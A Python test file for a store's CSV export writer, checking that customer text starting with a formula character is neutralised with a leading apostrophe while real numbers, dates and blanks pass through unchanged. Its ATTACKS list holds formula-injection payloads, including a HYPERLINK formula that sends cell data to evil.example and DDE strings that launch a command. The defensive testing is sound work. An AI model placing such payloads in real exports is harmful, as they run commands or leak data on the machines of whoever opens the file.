"""CSV for spreadsheets: customer text never runs as a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from cornerstore.spreadsheet_csv import spreadsheet_writer

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _written(row: list[object]) -> str:
    out = io.StringIO(newline="")
    spreadsheet_writer(out).writerow(row)
    return out.getvalue()


def test_a_carriage_return_inside_text_keeps_its_row_whole() -> None:
    written = _written(["c1", "first\rsecond"])

    assert list(csv.reader(io.StringIO(written, newline=""))) == [["c1", "first\rsecond"]]


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_that_starts_a_formula_is_written_quoted(attack: str) -> None:
    written = _written(["c1", attack])

    [[customer, cell]] = csv.reader(io.StringIO(written, newline=""))
    assert (customer, cell) == ("c1", "'" + attack)


def test_numbers_the_software_writes_stay_numbers_even_when_negative() -> None:
    row: list[object] = [-12.5, -3, Decimal("-0.10"), 0, True]

    assert _written(row) == "-12.5,-3,-0.10,0,True\r\n"


def test_plain_text_dates_and_missing_values_are_written_as_they_are() -> None:
    at = datetime(2024, 5, 1, 9, 30, tzinfo=UTC)

    assert _written(["Ann O'Neil", "a=b", at, None, "x-1"]) == (
        "Ann O'Neil,a=b,2024-05-01T09:30:00+00:00,,x-1\r\n"
    )


def test_text_holding_a_negative_number_is_quoted_since_a_customer_could_have_typed_it() -> None:
    assert _written(["-12.5"]) == "'-12.5\r\n"
